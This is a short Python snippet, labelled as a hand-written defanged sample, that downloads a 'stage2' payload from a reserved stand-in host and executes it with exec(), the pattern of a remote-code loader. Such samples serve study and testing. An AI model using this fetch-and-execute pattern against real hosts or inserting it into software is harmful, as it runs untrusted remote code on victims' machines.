# Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
import urllib.request

exec(urllib.request.urlopen("https://payload.invalid/stage2").read())
